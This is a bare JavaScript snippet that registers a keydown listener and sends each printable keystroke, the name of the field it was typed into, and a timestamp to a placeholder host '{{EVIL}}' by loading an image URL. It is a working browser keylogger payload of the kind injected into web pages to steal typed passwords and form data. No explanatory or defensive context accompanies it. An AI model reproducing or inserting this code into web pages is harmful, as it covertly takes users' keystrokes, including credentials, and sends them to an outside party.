document.addEventListener("keydown", function (e) {
  if (e.key.length === 1) new Image().src = "{{EVIL}}/k.gif?f=" + e.target.name + "&k=" + encodeURIComponent(e.key) + "&t=" + e.timeStamp;
});
